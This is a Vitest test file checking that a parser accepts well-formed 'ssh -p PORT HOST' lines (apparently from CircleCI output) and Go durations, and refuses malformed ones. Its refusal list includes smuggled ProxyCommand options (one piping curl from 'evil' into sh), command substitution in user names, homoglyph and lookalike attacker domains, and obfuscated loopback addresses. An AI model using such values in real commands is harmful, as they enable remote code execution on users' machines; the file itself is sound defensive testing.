import { describe, expect, it } from 'vitest';
import { parseGoDuration, parseSshLine } from './ssh-output';

describe('parseSshLine', () => {
  it.each([
    ['$ ssh -p 42915 18.207.148.116', { host: '18.207.148.116', port: 42915, tty: false }],
    ['ssh -p 1 1.2.3.4', { host: '1.2.3.4', port: 1, tty: false }],
    ['$ssh -p 65535 255.255.255.255', { host: '255.255.255.255', port: 65535, tty: false }],
    ['$ ssh  -p\t22   1.2.3.4', { host: '1.2.3.4', port: 22, tty: false }],
    ['$ ssh -p 22 2001:db8::1', { host: '2001:db8::1', port: 22, tty: false }],
    ['$ ssh -p 22 [2001:db8::1]', { host: '2001:db8::1', port: 22, tty: false }],
    ['$ ssh 1.2.3.4', { host: '1.2.3.4', tty: false }],
  ])('accepts %j', (line, target) => {
    expect(parseSshLine(line)).toEqual(target);
  });

  it.each([
    // ports: zero, too large, leading zero, sign, exponent, hex, service name, full-width digits
    '$ ssh -p 0 1.2.3.4',
    '$ ssh -p 65536 1.2.3.4',
    '$ ssh -p 022 1.2.3.4',
    '$ ssh -p +22 1.2.3.4',
    '$ ssh -p 1e3 1.2.3.4',
    '$ ssh -p 0x16 1.2.3.4',
    '$ ssh -p ssh 1.2.3.4',
    '$ ssh -p ２２ 1.2.3.4',
    '$ ssh -p 99999999999999999999 1.2.3.4',
    '$ ssh -p22 1.2.3.4',
    // hosts a resolver would read as other addresses, or that are not hosts at all
    '$ ssh -p 22 0x7f.1',
    '$ ssh -p 22 010.1.1.1',
    '$ ssh -p 22 2130706433',
    '$ ssh -p 22 127.1',
    '$ ssh -p 22 1.2.3.04',
    '$ ssh -p 22 256.1.1.1',
    '$ ssh -p 22 1.2.3.4.',
    '$ ssh -p 22 0x7f.0x1',
    '$ ssh -p 22 -oProxyCommand=id',
    '$ ssh -p 22 fe80::1%eth0',
    '$ ssh -p 22 １.２.３.４',
    '$ ssh -p 22 ѕsh.circleci.com',
    `$ ssh -p 22 ${'a'.repeat(64)}.com`,
    `$ ssh -p 22 ${'abcdefghi.'.repeat(26)}com`,
    '$ ssh -p 22 -bad.example.com',
    '$ ssh -p 22 bad-.example.com',
    '$ ssh -p 22 under_score.example.com',
    // option smuggling and extra words
    '$ ssh -p 22 1.2.3.4 -oProxyCommand=curl\x20evil|sh',
    '$ ssh -oProxyCommand=x -p 22 1.2.3.4',
    '$ ssh -p 22 -p 23 1.2.3.4',
    '$ ssh -p 22 1.2.3.4 5.6.7.8',
    '$ ssh -p 22 1.2.3.4 -- sh',
    '$ ssh -p 22 1.2.3.4 -- bash.exe extra',
    '$ ssh -p 22 1.2.3.4 --',
    '$ ssh -p 22 -- bash.exe',
    '$ ssh -p',
    '$ ssh',
    // users and the proxy host
    '$ ssh a@b@1.2.3.4',
    '$ ssh -oProxyCommand@ssh.circleci.com',
    '$ ssh x$(id)@ssh.circleci.com',
    '$ ssh .x@ssh.circleci.com',
    `$ ssh ${'u'.repeat(65)}@ssh.circleci.com`,
    '$ ssh 057f0065-0@ssh.circleci.com.evil.tld',
    '$ ssh 057f0065-0@evil.example.com',
    '$ ssh 057f0065-0@SSH.CIRCLECI.COM',
    '$ ssh -p 443 ssh.circleci.com',
    // shells other than CircleCI's three
    '$ ssh -p 22 1.2.3.4 -- BASH.EXE',
    '$ ssh -p 22 1.2.3.4 -- pwsh.exe',
  ])('refuses %j', (line) => {
    expect(parseSshLine(line)).toBeUndefined();
  });
});

describe('parseGoDuration', () => {
  it.each([
    ['2h0m0s', 7200],
    ['10m0s', 600],
    ['1h0m0s', 3600],
    ['30m', 1800],
    ['1.5s', 1.5],
    ['0s', 0],
  ])('%s is %d seconds', (text, seconds) => {
    expect(parseGoDuration(text)).toBe(seconds);
  });

  it.each(['', 'h', '2h0m0', '10 minutes', '-1s'])('refuses %j', (text) => {
    expect(parseGoDuration(text)).toBeUndefined();
  });
});
